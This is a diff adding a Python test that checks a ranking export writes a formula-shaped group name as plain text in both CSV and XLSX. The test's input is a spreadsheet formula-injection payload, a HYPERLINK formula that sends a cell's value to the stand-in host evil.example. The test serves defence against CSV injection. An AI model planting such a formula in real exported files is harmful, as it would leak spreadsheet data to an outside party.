@@ -123,6 +123,20 @@ def test_xlsx_never_writes_a_formula() -> None:
     assert "<t>=1+1</t>" in sheet_xml and "<t>=HYPERLINK(" in sheet_xml
 
 
+def test_a_group_named_like_a_formula_heads_its_column_as_text() -> None:
+    """Group ids and names come from a methodology document an administrator writes: the column
+    header made of them is text in both exports, like every other cell."""
+    formula = '=HYPERLINK("http://evil.example/?"&B4,"G1")'
+    groups = (GroupLabel(formula, formula, formula, Decimal(0)), *GROUPS[1:])
+    assert read_csv(ranking_csv(ranking_rows(), groups=groups))[0][6] == "'" + formula
+    data = ranking_xlsx(ranking_rows(), groups=groups, title="Xếp hạng")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None and sheet["G3"].value == formula and sheet["G3"].data_type == "s"
+
+
 def test_labels_write_numbers_and_periods_the_vietnamese_way() -> None:
     assert number_vi(Decimal("12840.5")) == "12.840,50"
     assert number_vi(12840, 0) == "12.840"
